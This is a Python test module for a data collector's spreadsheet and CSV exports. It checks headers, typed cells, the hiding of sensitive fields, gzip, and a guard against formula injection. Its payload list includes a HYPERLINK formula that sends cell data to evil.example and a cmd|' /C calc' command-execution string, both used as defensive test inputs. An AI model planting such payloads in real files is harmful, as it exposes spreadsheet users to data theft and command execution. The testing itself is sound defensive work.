"""Exports that open right (issue 18 item 1) and that no spreadsheet turns into a formula
(issue 15 item 5), over a store synced from Central, on SQLite and PostgreSQL.

Truth comes from outside the export code: the store's own tables read with plain SQL, the
XLSForms' labels as pyxform-based specs read them, the JSON API; files are opened with
openpyxl, pandas and LibreOffice (headless, when installed)."""

from __future__ import annotations

import csv
import gzip
import io
import random
import shutil
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import requests
import sqlalchemy as sa

from collector import store
from collector.read.exportguard import guard_csv, needs_guard
from collector.read.forminfo import form_info
from collector.sync import submissions as sync
from tests.api_fixtures import (
    FORMS,
    HOME_DISTRICT,
    SENSITIVE_NEEDLES,
    api_fixture,  # noqa: F401 - fixture "api"
    instance_xml,
    module_database_url_fixture,  # noqa: F401 - fixture
    synced_fixture,  # noqa: F401 - fixture
)

# Payloads from OWASP's CSV Injection page and the review (issue 15 item 5): each must stay
# one text cell whatever separator a spreadsheet splits on.
PAYLOADS = {
    "/venue": 'a;=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "/partners": "=1+2",
    "/topics_other": "b,\"=cmd|' /C calc'!A0\"",
    "/summary": "ok\t@SUM(1,1)",
}
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _live_ids(engine, form: str, district: str | None = None) -> set[str]:
    sub, f = store.T["submission"], store.T["form"]
    q = (
        sa.select(sub.c.instance_id)
        .select_from(sub.join(f, f.c.id == sub.c.form_id))
        .where(f.c.xml_form_id == form, sub.c.deleted_at.is_(None))
    )
    if district:
        q = q.where(sub.c.district == district)
    with engine.connect() as c:
        return {r[0] for r in c.execute(q)}


def _repeat_rows(engine, form: str, repeat: str) -> list[tuple[str, str]]:
    """(instance_id, row_id) of a repeat's live rows, read from its table with plain SQL."""
    info = form_info(engine, form)
    rep = info.repeat_named(repeat)
    table = next(f.table_name for f in info.fields if f.repeat_path == rep.path and f.table_name)
    live = _live_ids(engine, form)
    with engine.connect() as c:
        rows = c.execute(sa.text(f'SELECT instance_id, row_id FROM "{table}"')).all()
    return [(i, r) for i, r in rows if i in live]


@pytest.fixture(scope="module", name="planted_payloads")
def planted_payloads_fixture(api) -> str:
    """One roundtable whose free-text answers are formula payloads, synced into the store."""
    synced = api.synced
    spec = synced.specs["roundtable"]
    version = form_info(synced.engine, "roundtable").version or ""
    xml, iid = instance_xml(
        spec,
        version,
        random.Random(7),
        overrides={**PAYLOADS, "/district": HOME_DISTRICT},
        repeat_rows={"/speakers": [{"/speakers/speaker_topic": "-2+3;=EVIL()"}]},
    )
    synced.project.submit(xml)
    results = sync.sync_forms(synced.settings, engine=synced.engine)
    assert all(r.status == "ok" for r in results), [(r.xml_form_id, r.error) for r in results]
    return iid


def _sensitive_names(api, form: str) -> set[str]:
    info = form_info(api.synced.engine, form)
    out = set()
    for f in info.fields:
        if f.sensitive and f.has_values:
            out.update(f.value_columns())
            out.update(v for v in f.labels.values() if v)
    return out


def _all_cells(wb) -> list:
    return [v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row]


# --- XLSX ---------------------------------------------------------------------------------


def test_xlsx__typed_cells_frozen_filtered_header_repeat_sheets_and_fields(api):
    engine = api.synced.engine
    r = api.get("/v1/forms/household_visit/export.xlsx", "manager", header="label", lang="ru")
    assert r.status_code == 200, r.text
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["household_visit", "children", "fields"]
    ws = wb["household_visit"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
    table = list(ws.iter_rows(values_only=True))
    header, rows = table[0], table[1:]
    assert len(rows) == len(_live_ids(engine, "household_visit"))
    # headers are the Russian labels the XLSForm gives (read by pyxform-based form_spec)
    spec = {f.path: f for f in api.synced.specs["household_visit"].fields}
    assert spec["/visit/respondent_age"].labels["ru"] in header
    assert spec["/visit/last_remittance_amount"].labels["ru"] in header
    # real cells: timestamps and dates are dates, numbers are numbers
    col = {h: i for i, h in enumerate(header)}
    assert all(isinstance(row[col["submitted_at"]], datetime) for row in rows)
    follow = [row[col[spec["/visit/follow_up_date"].labels["ru"]]] for row in rows]
    assert any(v is not None for v in follow)
    assert all(v is None or isinstance(v, datetime) for v in follow)  # openpyxl: a date cell
    ages = [row[col[spec["/visit/respondent_age"].labels["ru"]]] for row in rows]
    assert all(v is None or isinstance(v, int) for v in ages) and any(ages)
    widths = [ws.column_dimensions[c].width for c in ("A", "B", "C")]
    assert all(w and w >= 10 for w in widths)
    # the repeat's sheet carries its keys, and every row of the repeat's table
    kids = list(wb["children"].iter_rows(values_only=True))
    assert {"instance_id", "row_id", "parent_row_id"} <= set(kids[0])
    truth = _repeat_rows(engine, "household_visit", "children")
    k = {h: i for i, h in enumerate(kids[0])}
    got = sorted((row[k["instance_id"]], row[k["row_id"]]) for row in kids[1:])
    assert got == sorted(truth)
    assert {i for i, _ in got} <= {row[col["instance_id"]] for row in rows}
    fields = list(wb["fields"].iter_rows(values_only=True))
    assert fields[0][:3] == ("sheet", "column", "header")
    assert ("household_visit", "visit__respondent_age") in {tuple(x[:2]) for x in fields}
    assert ("children", "visit__children__child_age") in {tuple(x[:2]) for x in fields} or any(
        x[0] == "children" and "child_age" in x[1] for x in fields[1:]
    )


@pytest.mark.parametrize("key", ["analyst", "analyst-home"])
def test_xlsx__analyst_workbook_has_no_sensitive_column_or_value_in_any_sheet(api, key):
    for form in FORMS:
        r = api.get(f"/v1/forms/{form}/export.xlsx", key, header="label", lang="tg")
        assert r.status_code == 200, r.text
        wb = openpyxl.load_workbook(io.BytesIO(r.content))
        cells = [str(v) for v in _all_cells(wb) if v is not None]
        hidden = _sensitive_names(api, form)
        for ws in wb.worksheets:
            head = next(ws.iter_rows(values_only=True))
            assert not hidden & set(head), (form, ws.title, hidden & set(head))
        for needle in SENSITIVE_NEEDLES:
            assert not any(needle in c for c in cells), (form, needle)
        if key == "analyst-home":
            main = list(wb.worksheets[0].iter_rows(values_only=True))
            d = main[0].index("district")
            assert {row[d] for row in main[1:]} <= {HOME_DISTRICT}


# --- the zip of CSVs ------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["manager", "analyst"])
def test_csv_zip__main_table_and_every_repeat_read_by_pandas_with_keys(api, key):
    engine = api.synced.engine
    r = api.get("/v1/forms/roundtable/export.csv.zip", key)
    assert r.status_code == 200 and r.headers["content-type"] == "application/zip"
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    assert zf.namelist() == ["roundtable.csv", "roundtable-speakers.csv"]
    main = pd.read_csv(zf.open("roundtable.csv"), encoding="utf-8-sig")
    speakers = pd.read_csv(zf.open("roundtable-speakers.csv"), encoding="utf-8-sig")
    assert set(main["instance_id"]) == _live_ids(engine, "roundtable")
    truth = _repeat_rows(engine, "roundtable", "speakers")
    assert sorted(zip(speakers["instance_id"], speakers["row_id"], strict=True)) == sorted(truth)
    assert set(speakers["instance_id"]) <= set(main["instance_id"])
    assert "parent_row_id" in speakers.columns
    hidden = _sensitive_names(api, "roundtable")
    text = r.content.decode("latin-1")  # deflated; check the parsed frames instead
    del text
    flat = main.astype(str).to_csv() + speakers.astype(str).to_csv()
    if key == "analyst":
        assert not hidden & (set(main.columns) | set(speakers.columns))
        assert not any(n in flat for n in SENSITIVE_NEEDLES)
    else:
        assert "speaker_name" in speakers.columns or any("speaker_name" in c for c in speakers)


# --- headers, choice columns, separators ------------------------------------------------------


def test_csv__label_headers_in_tajik_and_one_flag_column_per_choice(api):
    r = api.get(
        "/v1/forms/household_visit/export.csv",
        "analyst",
        header="label",
        lang="tg",
        choice_columns="true",
    )
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    head = rows[0]
    spec = api.synced.specs["household_visit"]
    fields = {f.path: f for f in spec.fields}
    age = fields["/visit/respondent_age"].labels["tg"]
    assert age in head
    income = fields["/visit/income_sources"]
    choices = [c for c in spec.choices if c.list_name == income.choice_list]
    flag_heads = [f"{income.labels['tg']} / {c.labels['tg']}" for c in choices]
    assert all(h in head for h in flag_heads), (flag_heads, head)
    # truth: the JSON API's lists of chosen values
    r = api.get("/v1/forms/household_visit/export.csv", "analyst", choice_columns="true")
    named = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    items = {}
    cursor = None
    while True:
        page = api.get(
            "/v1/forms/household_visit/submissions",
            "analyst",
            limit=500,
            **({"cursor": cursor} if cursor else {}),
        ).json()
        items.update({i["instance_id"]: i["values"] for i in page["items"]})
        cursor = page["next_cursor"]
        if not cursor:
            break
    for row in named:
        chosen = items[row["instance_id"]]["visit__income_sources"]
        for c in choices:
            cell = row[f"visit__income_sources/{c.value}"]
            assert cell == ("" if chosen is None else str(int(c.value in chosen))), (row, c.value)
    # the analyst never gets a sensitive select_multiple's flags
    assert not any(h.startswith("visit__safety__violence_kind") for h in named[0])


def test_csv__semicolon_separator_and_decimal_comma_for_russian_excel(api):
    r = api.get("/v1/forms/household_visit/export.csv", "analyst", sep=";")
    assert r.status_code == 200, r.text
    text = r.content.decode("utf-8-sig")
    frame = pd.read_csv(io.StringIO(text), sep=";", decimal=",")
    assert len(frame) == len(_live_ids(api.synced.engine, "household_visit"))
    amounts = frame["visit__last_remittance_amount"].dropna()
    assert len(amounts) and amounts.dtype.kind == "f"
    assert any("," in line for line in text.splitlines()[1:])
    r = api.get("/v1/forms/household_visit/export.csv", "analyst", sep="|")
    assert r.status_code == 422 and "sep" in r.text


# --- formulas (issue 15 item 5) -----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [*PAYLOADS.values(), "-2+3;=EVIL()", " =1", "x\n=1", "x'=1", '"=1"', "@a", "+1", "\t=1"],
)
def test_guard__every_cell_a_separator_or_quote_could_start_is_guarded(text):
    assert needs_guard(text)
    guarded = guard_csv(text)
    assert guarded.startswith("'")
    # cut as a reader splitting on any separator or quote would: no piece starts a formula
    import re

    for piece in re.split(r"""[,;\t|\r\n"]""", guarded):
        assert not piece.lstrip(" ").startswith(("=", "+", "-", "@")), (text, piece)


@pytest.mark.parametrize("text", ["Зарина 12", "a-b", "email@x.tj", "3+4", "ok; fine", ""])
def test_guard__ordinary_text_is_left_alone(text):
    assert not needs_guard(text) and guard_csv(text) == text


def _parse(text: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=sep))


@pytest.mark.parametrize("sep", [",", ";"])
def test_csv__payloads_stay_one_guarded_cell_whatever_the_reader_splits_on(
    api, planted_payloads, sep
):
    for path in ("/v1/forms/roundtable/export.csv", "/v1/forms/roundtable/export.csv.zip"):
        r = api.get(path, "analyst", sep=sep)
        assert r.status_code == 200, r.text
        if path.endswith(".zip"):
            zf = zipfile.ZipFile(io.BytesIO(r.content))
            texts = [zf.read(n).decode("utf-8-sig") for n in zf.namelist()]
        else:
            texts = [r.content.decode("utf-8-sig")]
        for text in texts:
            for reader_sep in (",", ";", "\t"):
                for row in _parse(text, reader_sep):
                    for cell in row:
                        assert not _starts_formula(cell), (reader_sep, cell)
        rows = _parse(texts[0], sep)
        mine = next(row for row in rows if planted_payloads in row)
        for payload in PAYLOADS.values():
            assert guard_csv(payload) in mine, payload
            assert guard_csv(payload).replace("'", "") == payload.replace("'", "")


def _starts_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting (after blanks and double quotes,
    which a reader may leave in when it splits on another separator) with = + - @, unless
    it is a plain number."""
    start = cell.lstrip(' "')
    if not start.startswith(("=", "+", "-", "@")):
        return False
    try:
        float(start.replace(",", "."))
    except ValueError:
        return True
    return False


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize(("sep", "opened_with"), [(",", ";"), (";", ";"), (";", ",")])
def test_csv__libreoffice_opening_the_csv_on_either_separator_makes_no_formula(
    api, planted_payloads, tmp_path, sep, opened_with
):
    """The review's attack: a comma CSV opened by a spreadsheet splitting on ``;`` (Excel
    with a Russian or Tajik locale); LibreOffice evaluates formulas in CSV as Excel does
    (``1,"a;=1+2"`` opened on ``;`` gives a formula cell ``=1+2"``)."""
    r = api.get("/v1/forms/roundtable/export.csv", "analyst", sep=sep)
    src = tmp_path / "roundtable.csv"
    src.write_bytes(r.content)
    out = _soffice(tmp_path, src, "xlsx:Calc MS Excel 2007 XML", f"{ord(opened_with)},34,76,1")
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    formulas = [c.value for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas
    values = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert any("HYPERLINK" in v for v in values)  # the payload arrived, as text


def _soffice(tmp: Path, src: Path, target: str, infilter: str | None = None) -> Path:
    outdir = tmp / "lo-out"
    cmd = [SOFFICE, f"-env:UserInstallation=file://{tmp / 'lo-profile'}", "--headless"]
    if infilter:
        cmd.append(f"--infilter=CSV:{infilter}")
    cmd += ["--convert-to", target, "--outdir", str(outdir), str(src)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    (out,) = list(outdir.iterdir())
    return out


def test_xlsx__payload_cells_are_text_with_a_quote_prefix(api, planted_payloads):
    r = api.get("/v1/forms/roundtable/export.xlsx", "analyst")
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    ws = wb["roundtable"]
    found = {c.value: c for row in ws.iter_rows() for c in row if c.value in PAYLOADS.values()}
    assert set(found) == set(PAYLOADS.values())
    for cell in found.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    plain = next(c for row in ws.iter_rows(min_row=2) for c in row if c.value == HOME_DISTRICT)
    assert not plain.quotePrefix


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_xlsx__libreoffice_opens_every_sheet_with_dates_and_no_formula(
    api, planted_payloads, tmp_path
):
    r = api.get("/v1/forms/household_visit/export.xlsx", "analyst", header="label", lang="tg")
    src = tmp_path / "household_visit.xlsx"
    src.write_bytes(r.content)
    out = _soffice(tmp_path, src, "ods")
    back = _soffice(tmp_path / "again", out, "xlsx")
    wb = openpyxl.load_workbook(back)
    assert wb.sheetnames == ["household_visit", "children", "fields"]
    ws = wb["household_visit"]
    head = next(ws.iter_rows(values_only=True))
    spec = {f.path: f for f in api.synced.specs["household_visit"].fields}
    assert spec["/visit/respondent_age"].labels["tg"] in head
    at = head.index("submitted_at")
    assert all(
        isinstance(row[at], datetime | date) for row in ws.iter_rows(min_row=2, values_only=True)
    )
    r = api.get("/v1/forms/roundtable/export.xlsx", "analyst")
    src = tmp_path / "roundtable.xlsx"
    src.write_bytes(r.content)
    back = _soffice(tmp_path / "rt", src, "xlsx")
    wb = openpyxl.load_workbook(back)
    assert not [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]


# --- gzip --------------------------------------------------------------------------------------


def test_gzip__csv_and_json_compressed_for_clients_that_accept_it(api):
    token = api.synced.tokens["analyst"]
    for path in ("/v1/forms/household_visit/export.csv", "/v1/forms/household_visit/submissions"):
        url = api.url + path
        plain = requests.get(
            url,
            headers={"Authorization": f"Bearer {token}", "Accept-Encoding": "identity"},
            timeout=60,
        )
        packed = requests.get(
            url,
            headers={"Authorization": f"Bearer {token}", "Accept-Encoding": "gzip"},
            timeout=60,
            stream=True,
        )
        assert "content-encoding" not in plain.headers
        assert packed.headers["content-encoding"] == "gzip", path
        raw = packed.raw.read(decode_content=False)
        assert gzip.decompress(raw) == plain.content and len(raw) < len(plain.content)
    r = requests.get(
        api.url + "/v1/forms/household_visit/export.xlsx",
        headers={"Authorization": f"Bearer {token}", "Accept-Encoding": "gzip"},
        timeout=60,
    )
    assert r.status_code == 200 and "content-encoding" not in r.headers
